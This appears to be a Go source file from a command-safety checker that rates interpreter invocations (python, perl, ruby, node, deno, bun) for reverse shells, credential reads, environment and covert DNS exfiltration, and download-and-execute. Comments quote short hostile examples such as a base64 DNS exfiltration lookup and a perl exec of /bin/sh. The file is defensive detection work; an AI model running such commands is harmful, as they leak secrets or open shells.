package rater

import (
	"strings"

	"github.com/chaperone-dev/chaperone/catalog"
	"github.com/chaperone-dev/chaperone/models"
	"github.com/chaperone-dev/chaperone/parser"
)

// interpValueOpts are interpreters' options that take the next word as
// their value (python -m mod, ruby -r lib, node --require mod …).
var interpValueOpts = []string{"-m", "-W", "-X", "-I", "-M", "-r", "--require", "--import", "-x", "--loader", "-C"}

// interpreter judges an interpreter: inline code is read for what it
// does; a script file is a project script; reading stdin from a download
// is download-and-execute.
func (k *check) interpreter(c *cmd, lang string) bool {
	_, code := parser.InlineCode(c.Command)
	if code == nil {
		code = catalogCode(c)
	}
	if code == nil {
		if pos := c.positional(interpValueOpts...); len(pos) == 0 || pos[0] == "-" {
			if _, ok := c.value("-m"); !ok {
				// python3 - <<'EOF' … EOF, echo 'code' | node
				if w, ok := parser.StdinCode(k.facts, c.idx); ok {
					code = &w
				}
			}
		}
	}
	if code == nil {
		return k.interpreterFile(c, lang)
	}
	return k.inlineCode(c, lang, inlineModules(c, lang)+code.Lit)
}

// inlineModules returns the modules an interpreter is told to load before
// its inline code (perl -MIO::Socket, ruby -rnet/http, node -r mod), as
// the language would say it, so that their effects count as the code's.
func inlineModules(c *cmd, lang string) string {
	var b strings.Builder
	for i, a := range c.args {
		var mod string
		switch {
		case lang == "perl" && (strings.HasPrefix(a, "-M") || strings.HasPrefix(a, "-m")) && len(a) > 2:
			mod = a[2:]
		case lang == "ruby" && a == "-r" && i+1 < len(c.args):
			mod = c.args[i+1]
		case lang == "ruby" && strings.HasPrefix(a, "-r") && len(a) > 2:
			mod = a[2:]
		case lang == "node" && (a == "-r" || a == "--require" || a == "--import") && i+1 < len(c.args):
			mod = c.args[i+1]
		case lang == "node" && (strings.HasPrefix(a, "--require=") || strings.HasPrefix(a, "--import=")):
			mod = a[strings.IndexByte(a, '=')+1:]
		default:
			continue
		}
		b.WriteString("require(\"" + mod + "\");\n")
	}
	return b.String()
}

// catalogCode returns the value of the option c's catalogue entry says
// carries code (osascript -e), for languages whose flags the parser does
// not know, or nil.
func catalogCode(c *cmd) *models.Word {
	e := catalog.Lookup(c.name)
	if e == nil {
		return nil
	}
	for i := 1; i < len(c.Argv); i++ {
		if o := e.Option(c.Argv[i].Lit); o != nil && o.Kind == catalog.Code && i+1 < len(c.Argv) {
			return &c.Argv[i+1]
		}
		if !strings.HasPrefix(c.Argv[i].Lit, "-") {
			break
		}
	}
	return nil
}

// embedded rates the command lines an inline program runs that the
// parser did not list (embeddedCommand), as commands of their own, and
// says how many it read.
func (k *check) embedded(c *cmd, lang, src string) int {
	re := embeddedCommand[lang]
	if re == nil || k.depth > 4 {
		return 0
	}
	ms := re.FindAllStringSubmatch(src, 8)
	for _, m := range ms {
		sub := &check{facts: parser.Parse(m[1]), where: k.where, registries: k.registries, cur: -1, depth: k.depth + 1}
		sub.rate()
		for _, f := range sub.findings {
			k.hit(Rule{ID: f.Rule, Risk: f.Risk, Reason: f.Reason}, c.span())
		}
	}
	return len(ms)
}

// inlineCode judges the text of an inline program by its effects (see
// effects.go), the same way in every language.
func (k *check) inlineCode(c *cmd, lang, src string) bool {
	span := c.span()
	read := k.embedded(c, lang, src)
	before := len(k.findings)
	e, paths := scanCode(src, lang)
	switch {
	case e.has(effSocket) && (e.has(effSpawn) || e.has(effShell) || strings.Contains(src, "dup2")):
		k.hit(ruleShellReverse, span)
	case e.has(effSocket):
		k.hit(ruleNetSocket, span)
	}
	if e.has(effShell) && (e.has(effSpawn) || (lang == "perl" || lang == "ruby") && bareExec.MatchString(src)) {
		// perl -e 'exec "/bin/sh"' has no parentheses.
		k.hit(ruleExecShell, span)
	}
	if e.has(effSetuid) {
		k.hit(rulePrivSetuid, span)
	}
	if e.has(effLibrary) {
		k.hit(ruleExecLibrary, span)
	}
	if e.has(effDecode) && (e.has(effEval) || e.has(effSpawn)) {
		k.hit(ruleExecObfuscated, span)
	}
	if e.has(effNet) && !e.has(effSocket) {
		if e.has(effSend) {
			k.hit(ruleNetUpload, span)
		} else {
			k.hit(ruleNetFetch, span)
		}
	}
	if e.has(effNet) && (e.has(effEval) || e.has(effSpawn) && !e.has(effShell)) {
		k.hit(ruleExecDownload, span)
	}
	secret := false
	for _, p := range paths {
		n := k.where.norm(p)
		if n == "~" || n == "~/" {
			e |= effHomeRoot
		}
		if isSecret(n) {
			if e.has(effDelete) && !e.has(effWrite) && !e.has(effNet) {
				k.deleteTarget(c, models.Word{Lit: p}, false)
				continue
			}
			k.hit(ruleSecretsRead, span)
			secret = true
			continue
		}
		if e.has(effWrite) || e.has(effDelete) {
			switch k.where.placeOf(p, false) {
			case placeSystem, placeOther, placeHome, placeDevice:
				if e.has(effDelete) && !e.has(effWrite) {
					k.deleteTarget(c, models.Word{Lit: p}, false)
				} else {
					k.write(c, models.Word{Lit: p}, false)
				}
			case placeTemp:
				k.hit(ruleWriteTemp, span)
			}
		}
	}
	if e.has(effHomeRoot) {
		switch {
		case e.has(effDelete):
			k.hit(ruleDestroyUnbounded, span)
		case e.has(effTree):
			// Archiving, walking or copying the whole home folder reads
			// every credential in it, as `tar czf x ~` does.
			k.hit(ruleSecretsRead, span)
			secret = true
		}
	}
	// One flow for every language: what the program read from a secret or
	// the environment may leave through its network call.
	if secret && e.has(effNet) {
		k.hit(ruleNetUpload, span)
	}
	if e.has(effEnvDump) && e.has(effNet) {
		k.hit(ruleEnvExfil, span)
	}
	if e.has(effDNS) && (secret || e&(effRead|effEnvDump|effSpawn) != 0) {
		// A name built from what the program read: its labels reach the
		// domain's server, as `dig $(base64 f).x.example` does.
		k.hit(ruleNetCovert, span)
	}
	if e.has(effWrite) && !strings.Contains(src, "print") {
		// A program written only to change files: say so quietly.
		k.hit(ruleWriteClobber, span)
	}
	if e.has(effDelete) {
		k.hit(ruleDeleteLocal, span)
	}
	if e.has(effSpawn) && !e.has(effShell) && len(k.findings) == before && read == 0 {
		// Runs some other program: the parser looked into literal
		// strings; what it could not see is undecided.
		k.hit(ruleUnknown, span)
		return false
	}
	return true
}

// interpreterFile judges `python script.py`, `node`, `perl -ne print f`.
func (k *check) interpreterFile(c *cmd, lang string) bool {
	pos := c.positional(interpValueOpts...)
	if lang == "perl" {
		for _, a := range c.args {
			if strings.HasPrefix(a, "-n") || strings.HasPrefix(a, "-p") {
				return true
			}
		}
	}
	if m, ok := c.value("-m"); ok {
		switch {
		case (m == "http.server" || m == "SimpleHTTPServer") && k.servesOutside(c):
			k.hit(ruleNetUpload, c.span())
		case m == "http.server" || m == "SimpleHTTPServer" || m == "smtpd" || m == "pyftpdlib" || m == "uvicorn" || m == "flask" || m == "gunicorn" || m == "streamlit":
			k.hit(ruleBackground, c.span())
		case m == "pip" || m == "ensurepip":
			sub := ""
			if p := c.positional("-m"); len(p) > 1 {
				sub = p[1]
			}
			if sub == "install" || sub == "uninstall" {
				k.hit(rulePkgInstall, c.span())
			}
		case m == "venv" || m == "virtualenv" || m == "pytest" || m == "unittest" || m == "mypy" || m == "black" || m == "ruff" ||
			m == "pdb" || m == "json.tool" || m == "py_compile" || m == "compileall" || m == "doctest" || m == "timeit" || m == "cProfile" ||
			m == "build" || m == "pylint" || m == "flake8" || m == "isort" || m == "coverage" || m == "tox" || m == "nox" || m == "django" || m == "site" || m == "this" || m == "tabnanny" || m == "pydoc" || m == "calendar":
		case m == "pty" || m == "telnetlib" || m == "nc" || m == "ftplib":
			k.hit(ruleExecShell, c.span())
		default:
			k.hit(ruleUnknown, c.span())
			return false
		}
		return true
	}
	if len(pos) == 0 {
		if c.Stdin == "pipe" || c.Stdin == "file" || c.Stdin == "subst" {
			k.shellFromStdin(c)
			return true
		}
		// An interactive REPL.
		if len(c.Via) > 0 {
			k.hit(ruleExecShell, c.span())
		}
		return true
	}
	f := pos[0]
	if k.procSubstArg(c) {
		if k.feedsFromNetwork(c) {
			k.hit(ruleExecDownload, c.span())
		} else {
			k.hit(ruleExecIndirect, c.span())
		}
		return true
	}
	if f == "-" || f == "/dev/stdin" {
		k.shellFromStdin(c)
		return true
	}
	n := k.where.norm(f)
	switch {
	case k.downloaded[n] || k.downloaded[strings.TrimPrefix(n, "./")]:
		k.hit(ruleExecDownload, c.span())
	case k.where.placeOf(f, false) == placeTemp:
		k.hit(ruleExecTemp, c.span())
	case k.where.placeOf(f, false) == placeProject:
		k.hit(ruleScript, c.span())
	case k.where.placeOf(f, false) == placeSink:
		if len(c.Assigns) > 0 {
			k.hit(ruleExecIndirect, c.span())
		}
	default:
		k.hit(ruleScript, c.span())
	}
	return true
}

// servesOutside reports whether a file server is pointed at a folder
// outside the project.
func (k *check) servesOutside(c *cmd) bool {
	if v, ok := c.value("-d", "--directory"); ok {
		switch k.where.placeOf(v, false) {
		case placeHome, placeSystem, placeOther:
			return true
		}
	}
	return false
}

// denoPerms are deno's options that lift its sandbox; code run with them
// can read files, reach the network and start programs.
var denoPerms = []string{"-A", "--allow-all", "--allow-read", "--allow-write", "--allow-net", "--allow-run", "--allow-env", "--allow-ffi", "--allow-sys", "-R", "-W", "-N", "-E", "-S"}

// jsRunner judges inline code and URLs given to deno and bun: `deno eval
// CODE`, `bun -e CODE`, `deno run data:…` or `bun run https://…`. It
// reports false when the command is none of these, for the program's own
// handler to judge.
func (k *check) jsRunner(c *cmd) bool {
	if _, code := parser.InlineCode(c.Command); code != nil {
		k.inlineCode(c, "node", inlineModules(c, "node")+code.Lit)
		return true
	}
	sub, rest := c.sub("--config", "-c", "--import-map", "--lock", "--cert", "--location", "--env-file", "--cwd")
	target := ""
	switch {
	case sub == "run" || sub == "x" && c.name == "bun":
		for _, a := range rest {
			if !strings.HasPrefix(a, "-") {
				target = a
				break
			}
		}
	case strings.Contains(sub, ":"):
		// `bun https://…` and `deno data:…` run it too.
		target = sub
	}
	switch {
	case strings.HasPrefix(target, "data:"):
		// The program is in the URL: read it; base64 hides it.
		_, body, _ := strings.Cut(target, ",")
		if strings.Contains(target[:len(target)-len(body)], ";base64") {
			k.hit(ruleExecObfuscated, c.span())
			return true
		}
		k.inlineCode(c, "node", body)
		return true
	case strings.HasPrefix(target, "http://") || strings.HasPrefix(target, "https://"):
		k.hit(ruleNetFetch, c.span())
		if c.name != "deno" || hasOption(c.args, denoPerms...) || hasAllowPrefix(c.args) {
			// Code from the network, with the user's rights.
			k.hit(ruleExecDownload, c.span())
		} else {
			k.hit(ruleScript, c.span())
		}
		return true
	}
	return false
}

func hasAllowPrefix(args []string) bool {
	for _, a := range args {
		if strings.HasPrefix(a, "--allow-") {
			return true
		}
	}
	return false
}
